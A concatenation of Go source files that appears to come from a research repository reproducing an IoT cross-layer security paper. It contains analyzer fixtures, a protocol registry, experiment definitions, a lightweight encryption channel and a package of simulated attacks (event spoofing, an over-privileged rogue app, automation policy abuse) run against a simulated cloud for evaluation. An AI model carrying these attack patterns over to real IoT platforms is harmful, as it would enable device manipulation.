// traffic is the caller's concern — pass pre-filtered records.
func Segment(records []netsim.PacketRecord, maxGap time.Duration) []Burst {
	open := make(map[netsim.Addr]*Burst)
	var order []netsim.Addr // deterministic close order
	var out []Burst

	flush := func(a netsim.Addr) {
		if b := open[a]; b != nil {
			out = append(out, *b)
			delete(open, a)
		}
	}

	for _, r := range records {
		b := open[r.Src]
		if b != nil && r.Time-b.End > maxGap {
			flush(r.Src)
			b = nil
		}
		if b == nil {
			open[r.Src] = &Burst{Device: r.Src, Start: r.Time, End: r.Time}
			order = append(order, r.Src)
			b = open[r.Src]
		}
		b.End = r.Time
		b.Seq = append(b.Seq, Quantize(r.Size))
	}
	for _, a := range order {
		flush(a)
	}
	return out
}

// ClassifyBursts runs every burst through the fingerprint library,
// returning recovered (device, event) observations; unknown bursts carry
// ok=false with their best distance.
type BurstEvent struct {
	Device   netsim.Addr
	Time     time.Duration
	Event    string
	Distance int
	OK       bool
}

// ClassifyBursts maps bursts to events via the library.
func ClassifyBursts(bursts []Burst, lib *Library) []BurstEvent {
	out := make([]BurstEvent, 0, len(bursts))
	for _, b := range bursts {
		ev, d, ok := lib.Classify(b.Seq)
		out = append(out, BurstEvent{Device: b.Device, Time: b.Start, Event: ev, Distance: d, OK: ok})
	}
	return out
}
