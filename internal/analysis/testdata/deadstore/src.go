// Package deadstorefix exercises the deadstore rule: complete writes to
// locals that no path can ever read.
package deadstorefix

var global int

func use(...any) {}

func compute() int { return 42 }

func overwrittenImmediately() {
	x := 1 // want "value assigned to x is never read on any path"
	x = 2
	use(x)
}

func overwrittenOnAllBranches(c bool) {
	x := compute() // want "value assigned to x is never read on any path"
	if c {
		x = 1
	} else {
		x = 2
	}
	use(x)
}

func storeBeforeReturn() int {
	x := compute()
	out := x * 2
	x = 0 // want "value assigned to x is never read on any path"
	return out
}

func okReadOnOneBranch(c bool) {
	x := compute()
	if c {
		x = 1
	}
	use(x)
}

func okLoopCarried(n int) int {
	sum := 0
	for i := 0; i < n; i++ {
		sum = sum + i
	}
	return sum
}

func okNamedResult() (n int) {
	n = compute()
	return
}

func okDeferReads() {
	x := compute()
	defer func() { use(x) }()
	x = compute()
}

func okGlobalStore() {
	global = compute()
}

func okCapturedStore() func() {
	x := 0
	f := func() { x = compute() }
	use(x)
	return f
}

func okZeroDecl(c bool) {
	var x int
	if c {
		x = 1
	}
	use(x)
}

// okCompound: += reads the old value; the rule skips compound writes.
func okCompound() int {
	x := 1
	x += 2
	return x
}
