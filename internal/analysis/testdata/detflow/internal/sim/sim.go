// Package sim is the detflow fixture: the test runs BOTH the
// intraprocedural determinism rule and detflow over this tree, and
// every finding below is detflow's — no primitive is called directly,
// so the old rule alone misses all of them.
package sim

import (
	"time"

	"example.com/m/internal/util"
)

// tick reaches time.Now through util.Stamp → util.now.
func tick() int64 {
	return util.Stamp() // want "\[detflow\] call to util.Stamp reaches wall-clock read time.Now \(via util.Stamp → util.now\)"
}

// roll reaches the global generator one call deep.
func roll() int {
	return util.Draw() // want "\[detflow\] call to util.Draw reaches global math/rand.Intn"
}

// spawned closures are still simulation code: capturing a clock-reading
// helper inside a goroutine body is the same hazard.
func spawned(done chan int64) {
	go func() {
		done <- util.Stamp() // want "\[detflow\] call to util.Stamp reaches wall-clock read time.Now"
	}()
}

// handing the real clock around as a value leaks the moment anything
// invokes it.
func clockValue() func() time.Time {
	return time.Now // want "\[detflow\] reference to wall-clock read time.Now"
}

// pure helpers are fine at any depth.
func quietClean() int { return util.Clean(1, 2) }

// a waived primitive origin produces no fact, so its callers are clean.
func quietWaivedOrigin() time.Time { return util.WaivedNow() }

// the marker on the boundary call site waives that root individually.
func waivedRoot() int64 {
	return util.Stamp() //xlf:allow-wallclock sanctioned measurement
}
