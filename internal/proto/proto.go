// Package proto is the protocol registry behind Figure 2 of the XLF paper:
// the IoT networking protocols mapped onto the TCP/IP stack, each annotated
// with the security capabilities XLF's network layer reasons about
// (encryption, integrity, replay protection, authentication).
//
// The registry is consumed three ways: the Figure 2 reproduction renders
// it; the netsim links attach a Protocol to every interface so packet
// metadata carries protocol context; and the XLF Core's policy engine uses
// the capability flags to decide, e.g., that a cleartext UPnP channel must
// not carry credentials.
package proto

import (
	"fmt"
	"sort"
	"strings"
)

// Layer is a TCP/IP stack layer as drawn in Figure 2.
type Layer int

// TCP/IP layers, bottom-up.
const (
	LayerPhysical Layer = iota + 1 // PHY / link technologies
	LayerNetwork                   // internet layer (and adaptation)
	LayerTransport
	LayerApplication
)

// String returns the layer name used in Figure 2.
func (l Layer) String() string {
	switch l {
	case LayerPhysical:
		return "Physical/Link"
	case LayerNetwork:
		return "Network"
	case LayerTransport:
		return "Transport"
	case LayerApplication:
		return "Application"
	default:
		return fmt.Sprintf("Layer(%d)", int(l))
	}
}

// Capabilities flags the security properties a protocol provides, per the
// paper's §II-B discussion (encryption, integrity, replay protection,
// authentication, access control).
type Capabilities struct {
	Encryption       bool
	Integrity        bool
	ReplayProtection bool
	Authentication   bool
	AccessControl    bool
}

// Score is a 0..5 count of present capabilities, used by the policy engine
// to rank channel choices.
func (c Capabilities) Score() int {
	n := 0
	for _, b := range []bool{c.Encryption, c.Integrity, c.ReplayProtection, c.Authentication, c.AccessControl} {
		if b {
			n++
		}
	}
	return n
}

func (c Capabilities) String() string {
	var parts []string
	add := func(ok bool, s string) {
		if ok {
			parts = append(parts, s)
		}
	}
	add(c.Encryption, "enc")
	add(c.Integrity, "int")
	add(c.ReplayProtection, "replay")
	add(c.Authentication, "auth")
	add(c.AccessControl, "acl")
	if len(parts) == 0 {
		return "none"
	}
	return strings.Join(parts, "+")
}

// Protocol is one box in Figure 2.
type Protocol struct {
	Name  string
	Layer Layer
	// Medium names the radio/wire family for link-layer protocols
	// ("802.15.4", "WiFi", ...); empty for upper layers.
	Medium string
	// Caps are the security capabilities the protocol itself provides.
	Caps Capabilities
	// MaxPayload is the usable payload in bytes (0 = effectively
	// unconstrained at this layer).
	MaxPayload int
	// Notes carries the caveat the paper attaches ("cleartext", "optional
	// security model", ...).
	Notes string
}

// Registry holds Figure 2's protocol set. The zero value is empty; use
// NewRegistry for the paper's figure.
type Registry struct {
	byName map[string]Protocol
	order  []string
}

// NewRegistry returns the Figure 2 protocol map. An error here means the
// compiled-in figure2 table is itself malformed (duplicate or unnamed
// protocol, out-of-range layer).
func NewRegistry() (*Registry, error) {
	r := &Registry{byName: make(map[string]Protocol)}
	for _, p := range figure2() {
		if err := r.Add(p); err != nil {
			return nil, fmt.Errorf("proto: figure 2 table: %w", err)
		}
	}
	return r, nil
}

// MustRegistry is NewRegistry for static-table contexts (experiment
// harnesses, tests) where a malformed compiled-in table is a programming
// error: it panics instead of returning an error.
func MustRegistry() *Registry {
	r, err := NewRegistry()
	if err != nil {
		panic(err)
	}
	return r
}

// Add registers a protocol; duplicate names are rejected.
func (r *Registry) Add(p Protocol) error {
	if p.Name == "" {
		return fmt.Errorf("proto: empty protocol name")
	}
	if _, dup := r.byName[p.Name]; dup {
		return fmt.Errorf("proto: duplicate protocol %q", p.Name)
	}
	if p.Layer < LayerPhysical || p.Layer > LayerApplication {
		return fmt.Errorf("proto: %s: invalid layer %d", p.Name, p.Layer)
	}
	r.byName[p.Name] = p
	r.order = append(r.order, p.Name)
	return nil
}

// Lookup returns a protocol by name.
func (r *Registry) Lookup(name string) (Protocol, bool) {
	p, ok := r.byName[name]
	return p, ok
}

// All returns every protocol in registration order (a copy).
func (r *Registry) All() []Protocol {
	out := make([]Protocol, 0, len(r.order))
	for _, n := range r.order {
		out = append(out, r.byName[n])
	}
	return out
}

// AtLayer returns the protocols of one stack layer, sorted by name.
func (r *Registry) AtLayer(l Layer) []Protocol {
	var out []Protocol
	for _, p := range r.byName {
		if p.Layer == l {
			out = append(out, p)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// RenderFigure2 prints the stack bottom-up with one line per protocol —
// the textual regeneration of the paper's Figure 2.
func (r *Registry) RenderFigure2() string {
	var b strings.Builder
	b.WriteString("Figure 2: IoT network protocols mapped to the TCP/IP stack\n")
	for _, l := range []Layer{LayerApplication, LayerTransport, LayerNetwork, LayerPhysical} {
		fmt.Fprintf(&b, "\n[%s]\n", l)
		for _, p := range r.AtLayer(l) {
			fmt.Fprintf(&b, "  %-14s caps=%-24s %s\n", p.Name, p.Caps, p.Notes)
		}
	}
	return b.String()
}

// figure2 enumerates the protocols the paper's Figure 2 places on the
// stack.
func figure2() []Protocol {
	return []Protocol{
		// Physical / link.
		{Name: "IEEE 802.15.4", Layer: LayerPhysical, Medium: "802.15.4", MaxPayload: 127,
			Caps:  Capabilities{Encryption: true, Integrity: true, ReplayProtection: true, AccessControl: true},
			Notes: "security model: AES-CCM*, ACLs, replay counters"},
		{Name: "ZigBee", Layer: LayerPhysical, Medium: "802.15.4", MaxPayload: 100,
			Caps:  Capabilities{Encryption: true, Integrity: true, ReplayProtection: true, Authentication: true, AccessControl: true},
			Notes: "802.15.4-based mesh; Touchlink commissioning is a known weak point"},
		{Name: "Z-Wave", Layer: LayerPhysical, Medium: "subGHz", MaxPayload: 64,
			Caps:  Capabilities{Encryption: true, Integrity: true, Authentication: true},
			Notes: "S0/S2 security classes; legacy S0 key exchange is weak"},
		{Name: "BLE", Layer: LayerPhysical, Medium: "2.4GHz", MaxPayload: 251,
			Caps:  Capabilities{Encryption: true, Integrity: true, Authentication: true},
			Notes: "pairing modes vary; JustWorks lacks MitM protection"},
		{Name: "WiFi", Layer: LayerPhysical, Medium: "802.11", MaxPayload: 2304,
			Caps:  Capabilities{Encryption: true, Integrity: true, Authentication: true, AccessControl: true},
			Notes: "WPA2-PSK typical in homes; open networks still common"},
		{Name: "Ethernet", Layer: LayerPhysical, Medium: "wired", MaxPayload: 1500,
			Caps:  Capabilities{},
			Notes: "no link security; relies on upper layers"},
		// Network / adaptation.
		{Name: "6LoWPAN", Layer: LayerNetwork, MaxPayload: 1280,
			Caps:  Capabilities{},
			Notes: "IPv6 adaptation for 802.15.4; inherits link security only"},
		{Name: "IPv4", Layer: LayerNetwork, Caps: Capabilities{}, Notes: "cleartext"},
		{Name: "IPv6", Layer: LayerNetwork, Caps: Capabilities{}, Notes: "cleartext; IPsec optional"},
		{Name: "RPL", Layer: LayerNetwork,
			Caps:  Capabilities{Integrity: true},
			Notes: "routing for low-power lossy networks; secure mode rarely deployed"},
		// Transport.
		{Name: "TCP", Layer: LayerTransport, Caps: Capabilities{}, Notes: "cleartext"},
		{Name: "UDP", Layer: LayerTransport, Caps: Capabilities{}, Notes: "cleartext; amplification risk"},
		{Name: "TLS", Layer: LayerTransport,
			Caps:  Capabilities{Encryption: true, Integrity: true, ReplayProtection: true, Authentication: true},
			Notes: "end-to-end security over TCP"},
		{Name: "DTLS", Layer: LayerTransport,
			Caps:  Capabilities{Encryption: true, Integrity: true, ReplayProtection: true, Authentication: true},
			Notes: "TLS for datagrams; CoAP's security binding"},
		// Application.
		{Name: "HTTP", Layer: LayerApplication, Caps: Capabilities{}, Notes: "cleartext REST"},
		{Name: "HTTPS", Layer: LayerApplication,
			Caps:  Capabilities{Encryption: true, Integrity: true, ReplayProtection: true, Authentication: true},
			Notes: "HTTP over TLS"},
		{Name: "CoAP", Layer: LayerApplication, MaxPayload: 1024,
			Caps:  Capabilities{},
			Notes: "constrained REST; security delegated to DTLS"},
		{Name: "MQTT", Layer: LayerApplication,
			Caps:  Capabilities{Authentication: true},
			Notes: "broker auth only unless run over TLS"},
		{Name: "DNS", Layer: LayerApplication, Caps: Capabilities{},
			Notes: "cleartext queries leak device identity (Apthorpe et al.)"},
		{Name: "UPnP", Layer: LayerApplication, Caps: Capabilities{},
			Notes: "unauthenticated port mapping; classic IoT exposure"},
		{Name: "NTP", Layer: LayerApplication, Caps: Capabilities{}, Notes: "cleartext time"},
	}
}
