package attack

import (
	"fmt"

	"xlf/internal/service"
)

// EventSpoof publishes fabricated events in a device's name through the
// platform's unsigned-event path (§IV-C2: "malicious actors could easily
// launch spoofing event attacks").
type EventSpoof struct {
	DeviceID string
	Event    string
	Value    float64
}

var _ Attack = (*EventSpoof)(nil)

// Name implements Attack.
func (a *EventSpoof) Name() string { return "event-spoofing" }

// Layer implements Attack.
func (a *EventSpoof) Layer() Layer { return LayerService }

// TableII implements Attack.
func (a *EventSpoof) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *EventSpoof) Execute(env *Env) Result {
	if env.Cloud == nil {
		return Result{Attack: a.Name(), Blocked: "no cloud in scope"}
	}
	err := env.Cloud.PublishRaw(service.Event{
		DeviceID: a.DeviceID, Name: a.Event, Value: a.Value,
		Source: "spoofed:attacker",
	})
	if err != nil {
		return Result{Attack: a.Name(), Blocked: fmt.Sprintf("platform rejected: %v", err)}
	}
	env.MarkInjection("event-spoof", a.DeviceID)
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: fmt.Sprintf("forged %s=%v for %s accepted by platform", a.Event, a.Value, a.DeviceID),
	}
}

// RogueApp installs an over-privileged SmartApp that rides the platform's
// coarse grants to actuate devices it was never meant to control
// (Fernandes et al.'s over-privilege, §IV-C2).
type RogueApp struct {
	// AppID names the installed app.
	AppID string
	// CoverDevice/CoverCap is the innocuous permission it requests.
	CoverDevice, CoverCap string
	// TargetDevice/TargetCommand is the hidden actuation.
	TargetDevice, TargetCommand string
}

var _ Attack = (*RogueApp)(nil)

// Name implements Attack.
func (a *RogueApp) Name() string { return "overprivileged-app" }

// Layer implements Attack.
func (a *RogueApp) Layer() Layer { return LayerService }

// TableII implements Attack.
func (a *RogueApp) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *RogueApp) Execute(env *Env) Result {
	if env.Cloud == nil {
		return Result{Attack: a.Name(), Blocked: "no cloud in scope"}
	}
	fired := false
	app := &service.SmartApp{
		ID:        a.AppID,
		Grants:    []service.Grant{{DeviceID: a.CoverDevice, Capability: a.CoverCap}},
		Malicious: true,
		Hook: func(ev service.Event) []service.Command {
			if fired {
				return nil
			}
			fired = true
			return []service.Command{{DeviceID: a.TargetDevice, Name: a.TargetCommand}}
		},
	}
	if err := env.Cloud.InstallApp(app); err != nil {
		return Result{Attack: a.Name(), Blocked: fmt.Sprintf("install refused: %v", err)}
	}
	// Trigger any event so the hook runs.
	if err := env.Cloud.PublishDeviceEvent(a.CoverDevice, "heartbeat", 1); err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	// Judge success by whether the hidden command made the log.
	for _, cmd := range env.Cloud.CommandLog() {
		if cmd.DeviceID == a.TargetDevice && cmd.Name == a.TargetCommand && cmd.IssuedBy == "app:"+a.AppID {
			env.MarkInjection("rogue-app", a.TargetDevice)
			return Result{
				Attack: a.Name(), Succeeded: true,
				Impact: fmt.Sprintf("app %q actuated %s.%s via over-privilege", a.AppID, a.TargetDevice, a.TargetCommand),
			}
		}
	}
	return Result{Attack: a.Name(), Blocked: "sandbox denied the hidden command"}
}

// PolicyAbuse is the paper's §IV-C3 scenario: the attacker manipulates the
// physical environment (heats the room) so a legitimate automation opens
// the window. Every individual component behaves correctly — only
// cross-domain correlation exposes the abuse.
type PolicyAbuse struct {
	ThermoID string
	// FakeTempF is the sensor reading the attacker induces.
	FakeTempF float64
}

var _ Attack = (*PolicyAbuse)(nil)

// Name implements Attack.
func (a *PolicyAbuse) Name() string { return "automation-policy-abuse" }

// Layer implements Attack.
func (a *PolicyAbuse) Layer() Layer { return LayerService }

// TableII implements Attack.
func (a *PolicyAbuse) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *PolicyAbuse) Execute(env *Env) Result {
	if env.Cloud == nil {
		return Result{Attack: a.Name(), Blocked: "no cloud in scope"}
	}
	// The reading is "real": the attacker genuinely heated the sensor.
	if err := env.Cloud.PublishDeviceEvent(a.ThermoID, "temperature", a.FakeTempF); err != nil {
		return Result{Attack: a.Name(), Blocked: err.Error()}
	}
	// Success = some automation opened/unlocked something in response.
	for _, cmd := range env.Cloud.CommandLog() {
		if cmd.Name == "open" || cmd.Name == "unlock" {
			return Result{
				Attack: a.Name(), Succeeded: true,
				Impact: fmt.Sprintf("automation issued %s on %s in response to induced reading", cmd.Name, cmd.DeviceID),
			}
		}
	}
	return Result{Attack: a.Name(), Blocked: "no automation reacted"}
}
