package analysis

import "testing"

func TestCryptoMisuseFixture(t *testing.T) {
	checkFixture(t, "cryptomisuse", NewCryptoMisuse(CryptoConfig{
		Keys: []CryptoKeyCall{
			{Pkg: fixtureModule + "/vault", Name: "NewCipher", KeyArg: 0, MinKeyLen: 16},
			{Pkg: "crypto/hmac", Name: "New", KeyArg: 1, MinKeyLen: 16},
		},
		Nonces: []CryptoNonceCall{
			{Name: "Seal", NArgs: 4, NonceArg: 1},
		},
		RandPkgs: []string{"math/rand", "math/rand/v2"},
	}))
}
