package analysis

import (
	"go/ast"
	"strings"
)

// AllowDropErrMarker waives the errdrop rule for a call whose error is
// deliberately irrelevant (documented fire-and-forget).
const AllowDropErrMarker = "xlf:allow-droperr"

// ErrDrop flags discarded error returns inside security-critical
// packages: a call used as a bare statement, or assigned entirely to
// blanks (_ = f()), when the callee is known to return an error. Dropping
// an error from a crypto, auth or DNS-privacy path silently converts a
// security failure into success, so in those packages every error must be
// inspected or explicitly waived with //xlf:allow-droperr.
//
// Without type information, "known to return an error" means: declared in
// the same package (functions and methods, matched by name) — which is
// exactly where the security-critical logic lives. Test files are
// exempt; tests routinely ignore errors on the failure paths they
// provoke.
type ErrDrop struct {
	// Packages lists the import paths (exact, or "prefix/..." patterns)
	// under the rule.
	Packages []string
}

// NewErrDrop builds the analyzer for the given package set.
func NewErrDrop(packages []string) *ErrDrop {
	return &ErrDrop{Packages: packages}
}

// Name implements Analyzer.
func (e *ErrDrop) Name() string { return "errdrop" }

// Doc implements Documented.
func (e *ErrDrop) Doc() string {
	return "security-critical packages must not discard error results"
}

func (e *ErrDrop) applies(importPath string) bool {
	for _, p := range e.Packages {
		if prefix, ok := strings.CutSuffix(p, "/..."); ok {
			if importPath == prefix || strings.HasPrefix(importPath, prefix+"/") {
				return true
			}
		} else if importPath == p {
			return true
		}
	}
	return false
}

// returnsError reports whether the function type's results include an
// identifier spelled "error".
func returnsError(ft *ast.FuncType) bool {
	if ft.Results == nil {
		return false
	}
	for _, field := range ft.Results.List {
		if id, ok := field.Type.(*ast.Ident); ok && id.Name == "error" {
			return true
		}
	}
	return false
}

// errFuncs collects the names of package-level functions and methods
// (including those declared in test files — production files may not call
// them, but the map is a superset) that return an error.
func errFuncs(pkg *Package) (funcs, methods map[string]bool) {
	funcs = make(map[string]bool)
	methods = make(map[string]bool)
	for _, f := range pkg.Files {
		for _, decl := range f.AST.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || !returnsError(fd.Type) {
				continue
			}
			if fd.Recv != nil {
				methods[fd.Name.Name] = true
			} else {
				funcs[fd.Name.Name] = true
			}
		}
	}
	return funcs, methods
}

// calleeName resolves the flaggable callee of call: a plain identifier
// (same-package function) or a selector (method). It reports which map to
// consult.
func calleeName(call *ast.CallExpr) (name string, method bool, ok bool) {
	switch fun := call.Fun.(type) {
	case *ast.Ident:
		return fun.Name, false, true
	case *ast.SelectorExpr:
		return fun.Sel.Name, true, true
	}
	return "", false, false
}

// Check implements Analyzer.
func (e *ErrDrop) Check(pkg *Package) []Finding {
	if !e.applies(pkg.ImportPath) {
		return nil
	}
	funcs, methods := errFuncs(pkg)
	var out []Finding
	for _, f := range pkg.Files {
		if f.Test {
			continue
		}
		allowed := allowedLines(pkg.Fset, f.AST, AllowDropErrMarker)
		dropped := func(call *ast.CallExpr) bool {
			name, method, ok := calleeName(call)
			if !ok {
				return false
			}
			if method {
				return methods[name]
			}
			return funcs[name]
		}
		flag := func(call *ast.CallExpr, how string) {
			if allowed[pkg.Fset.Position(call.Pos()).Line] {
				return
			}
			name, _, _ := calleeName(call)
			out = append(out, pkg.finding(e.Name(), call.Pos(),
				"error from %s %s in security-critical package %s; handle it (or annotate //%s)",
				name, how, pkg.ImportPath, AllowDropErrMarker))
		}
		ast.Inspect(f.AST, func(n ast.Node) bool {
			switch stmt := n.(type) {
			case *ast.ExprStmt:
				if call, ok := stmt.X.(*ast.CallExpr); ok && dropped(call) {
					flag(call, "discarded (call used as a statement)")
				}
			case *ast.AssignStmt:
				// Flag a call whose every result lands in a blank.
				if len(stmt.Rhs) != 1 {
					return true
				}
				call, ok := stmt.Rhs[0].(*ast.CallExpr)
				if !ok || !dropped(call) {
					return true
				}
				for _, lhs := range stmt.Lhs {
					if id, ok := lhs.(*ast.Ident); !ok || id.Name != "_" {
						return true
					}
				}
				flag(call, "assigned only to blanks")
			}
			return true
		})
	}
	return out
}

var _ Analyzer = (*ErrDrop)(nil)
