package metrics

// Table is the fixture's report table; AddRow is a secretleak label
// sink.
type Table struct{ rows [][]string }

// AddRow appends one row of cells.
func (t *Table) AddRow(cells ...string) { t.rows = append(t.rows, cells) }
