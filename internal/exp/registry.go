package exp

import "strings"

// Experiment is one registry entry: the descriptor the scheduler,
// cmd/xlf-bench and the tests iterate instead of hand-maintained switch
// statements. Run must be a pure function of its Env (the reproduction
// contract), so the scheduler may execute entries in any order and at any
// parallelism.
type Experiment struct {
	// ID is the report identifier: "T1"-"T3", "F1"-"F4", "E1"-"E10".
	ID string
	// Title matches the Result.Title the run renders.
	Title string
	// Tables lists the paper tables this entry reproduces (xlf-bench
	// -table resolves through it).
	Tables []int
	// Figures lists the paper figures this entry reproduces (xlf-bench
	// -figure resolves through it).
	Figures []int
	// Run executes the experiment under an explicit environment.
	Run func(*Env) *Result
}

// Kind classifies the entry for listings: "table", "figure" or
// "experiment".
func (e Experiment) Kind() string {
	switch {
	case len(e.Tables) > 0:
		return "table"
	case len(e.Figures) > 0:
		return "figure"
	default:
		return "experiment"
	}
}

// registry is the single source of truth for the experiment suite, in
// report order. Adding an experiment here is the whole integration: the
// scheduler, cmd/xlf-bench (-all, -exp, -table, -figure, -list), AllEnv
// and the determinism tests all iterate this slice.
var registry = []Experiment{
	{ID: "T1", Title: "Device-layer components (paper Table I) + crypto feasibility", Tables: []int{1}, Run: runTable1},
	{ID: "T2", Title: "Device-layer attack surface (paper Table II), executed", Tables: []int{2}, Run: runTable2},
	{ID: "T3", Title: "Lightweight cryptographic algorithms (paper Table III), measured", Tables: []int{3}, Run: runTable3},
	{ID: "F1", Title: "Generic layered IoT architecture", Figures: []int{1}, Run: func(*Env) *Result { return Figure1() }},
	{ID: "F2", Title: "IoT protocols on the TCP/IP stack", Figures: []int{2}, Run: func(*Env) *Result { return Figure2() }},
	{ID: "F3", Title: "IoT attack surface areas", Figures: []int{3}, Run: func(*Env) *Result { return Figure3() }},
	{ID: "F4", Title: "XLF cross-layer security design", Figures: []int{4}, Run: func(*Env) *Result { return Figure4() }},
	{ID: "E1", Title: "Cross-layer vs single-layer detection (per-device F1)", Run: runE1},
	{ID: "E2", Title: "Traffic shaping: adversary confidence vs bandwidth overhead", Run: runE2},
	{ID: "E3", Title: "Delegated authentication: XLF proxy vs Barreto baseline", Run: runE3},
	{ID: "E4", Title: "Encrypted DPI: plaintext vs searchable-encryption matching", Run: runE4},
	{ID: "E5", Title: "Behaviour DFA: spoof detection under fingerprint noise", Run: runE5},
	{ID: "E6", Title: "Core learning: MKL fusion and graph community detection", Run: runE6},
	{ID: "E7", Title: "DNS privacy: plain vs DoT vs XLF lightweight bridge", Run: runE7},
	{ID: "E8", Title: "Botnet campaign: unprotected vs XLF (containment timeline)", Run: runE8},
	{ID: "E9", Title: "Long-horizon stability: 3-day household, one campaign", Run: runE9},
	{ID: "E10", Title: "Smart-city scale: one kernel, 10^3..5*10^4 devices", Run: runE10},
}

// Registry returns the experiment descriptors in report order. The slice
// is a copy; callers may reorder or filter it freely.
func Registry() []Experiment {
	out := make([]Experiment, len(registry))
	copy(out, registry)
	return out
}

// Lookup resolves one descriptor by ID (case-insensitive).
func Lookup(id string) (Experiment, bool) {
	id = strings.ToUpper(strings.TrimSpace(id))
	for _, e := range registry {
		if e.ID == id {
			return e, true
		}
	}
	return Experiment{}, false
}

// ByTable resolves the entry reproducing paper table n.
func ByTable(n int) (Experiment, bool) {
	for _, e := range registry {
		for _, t := range e.Tables {
			if t == n {
				return e, true
			}
		}
	}
	return Experiment{}, false
}

// ByFigure resolves the entry reproducing paper figure n.
func ByFigure(n int) (Experiment, bool) {
	for _, e := range registry {
		for _, f := range e.Figures {
			if f == n {
				return e, true
			}
		}
	}
	return Experiment{}, false
}
