package netsim

import (
	"testing"

	"xlf/internal/sim"
)

// raceEnabled is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so byte-exact AllocsPerRun guards only run
// in regular builds.
var raceEnabled bool

// TestSendDeliverAllocBudget is the dynamic half of the //xlf:hotpath
// contract on Send and deliver: moving one packet end to end allocates
// nothing — Send reuses the network's long-lived deliverArg closure and a
// constant event name, the kernel recycles a pooled event slot, and
// deliver (taps, stats, node dispatch) allocates nothing.
func TestSendDeliverAllocBudget(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}

	k := sim.NewKernel(1)
	n := New(k)
	dst := &FuncNode{Address: "lan:sink", Fn: func(*Network, *Packet) {}}
	if err := n.Attach(dst, Link{}); err != nil {
		t.Fatal(err)
	}
	pkt := &Packet{Src: "lan:src", Dst: "lan:sink", Proto: "TLS", Size: 100}

	if a := testing.AllocsPerRun(200, func() {
		n.Send(pkt)
		if !k.Step() {
			t.Fatal("no delivery event")
		}
	}); a != 0 {
		t.Errorf("Send+deliver allocates %.1f per packet, want 0", a)
	}
}

// BenchmarkNetsimSend measures the packet hot path end to end
// (Send → pooled delivery event → deliver) and must report 0 allocs/op;
// scripts/bench-compare gates it against bench/seed.
func BenchmarkNetsimSend(b *testing.B) {
	k := sim.NewKernel(1)
	n := New(k)
	dst := &FuncNode{Address: "lan:sink", Fn: func(*Network, *Packet) {}}
	if err := n.Attach(dst, Link{}); err != nil {
		b.Fatal(err)
	}
	pkt := &Packet{Src: "lan:src", Dst: "lan:sink", Proto: "TLS", Size: 100}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		n.Send(pkt)
		if !k.Step() {
			b.Fatal("no delivery event")
		}
	}
}
