// Package channel implements XLF's device-layer lightweight encryption
// function (§IV-A2): an authenticated-encryption session between a
// constrained device and the XLF Core on the gateway, built from Table III
// primitives (CTR mode + truncated CMAC over the same cipher). The cipher
// is negotiated per device by the cost model — the strongest algorithm the
// device's RAM and cycle budget affords — and every sealed byte is charged
// to the device's battery.
package channel

import (
	"crypto/cipher"
	"crypto/subtle"
	"encoding/binary"
	"errors"
	"fmt"

	"xlf/internal/device"
	"xlf/internal/lwc"
)

// Errors returned by Open.
var (
	ErrTooShort    = errors.New("channel: message too short")
	ErrBadTag      = errors.New("channel: integrity tag mismatch")
	ErrReplay      = errors.New("channel: replayed or reordered nonce")
	ErrNoCipher    = errors.New("channel: no affordable cipher for device")
	ErrOutOfEnergy = errors.New("channel: device battery exhausted")
)

// Negotiate picks the strongest affordable cipher for a device profile:
// among the algorithms whose working RAM fits, it prefers the largest
// effective key, breaking ties by lower cycle cost. DES-class algorithms
// (<=64-bit keys) are never selected — they appear in Table III as
// baselines, not recommendations.
func Negotiate(p device.Profile, reg *lwc.Registry) (lwc.Info, error) {
	var best lwc.Info
	found := false
	for _, info := range reg.ByCost() {
		if !device.CostModel(p, info.CyclesPerByte, info.RAMBytes).Fits {
			continue
		}
		if info.DefaultKeyBits() <= 64 {
			continue // DES/DESL: broken key sizes
		}
		if info.BlockSize < 64 {
			continue // 16-bit blocks cannot carry the CTR+CMAC framing
		}
		if !found ||
			info.DefaultKeyBits() > best.DefaultKeyBits() ||
			(info.DefaultKeyBits() == best.DefaultKeyBits() && info.CyclesPerByte < best.CyclesPerByte) {
			best = info
			found = true
		}
	}
	if !found {
		return lwc.Info{}, ErrNoCipher
	}
	return best, nil
}

// Session is one direction of an authenticated-encryption channel. Both
// ends construct it from the same key material; the sender's nonce counter
// and the receiver's replay window advance independently.
type Session struct {
	// Algorithm names the negotiated Table III cipher.
	Algorithm string
	blk       cipher.Block
	tagSize   int

	sendNonce uint64
	recvHigh  uint64

	// cost charges the owning device per processed KB; nil = free
	// (gateway side).
	cost *deviceMeter
}

type deviceMeter struct {
	dev  *device.Device
	cost device.CipherCost
}

// New creates a session over a negotiated cipher and key. The key length
// must match the algorithm's default key size.
func New(info lwc.Info, key []byte) (*Session, error) {
	blk, err := info.New(key)
	if err != nil {
		return nil, fmt.Errorf("channel: %w", err)
	}
	if blk.BlockSize() < 8 {
		return nil, fmt.Errorf("channel: %s block too small for CTR+CMAC framing", info.Name)
	}
	return &Session{Algorithm: info.Name, blk: blk, tagSize: 8}, nil
}

// ForProfile negotiates a cipher for a hardware profile and derives the
// session key from the provisioning key with the lightweight hash (a KDF
// stand-in). The session is unmetered — this is what the gateway/core side
// uses to build the peer of a device session.
func ForProfile(p device.Profile, reg *lwc.Registry, key []byte) (*Session, error) {
	info, err := Negotiate(p, reg)
	if err != nil {
		return nil, err
	}
	if len(key) == 0 {
		return nil, errors.New("channel: empty key")
	}
	want := info.DefaultKeyBits() / 8
	mat := make([]byte, 0, want)
	ctr := uint64(0)
	for len(mat) < want {
		h := lwc.NewDMPresent()
		var c [8]byte
		binary.BigEndian.PutUint64(c[:], ctr)
		h.Write(c[:])
		h.Write(key)
		mat = h.Sum(mat)
		ctr++
	}
	return New(info, mat[:want])
}

// ForDevice negotiates a cipher for the device's profile, creates the
// session, and meters every sealed/opened byte against its battery.
func ForDevice(d *device.Device, reg *lwc.Registry, key []byte) (*Session, error) {
	s, err := ForProfile(d.Profile, reg, key)
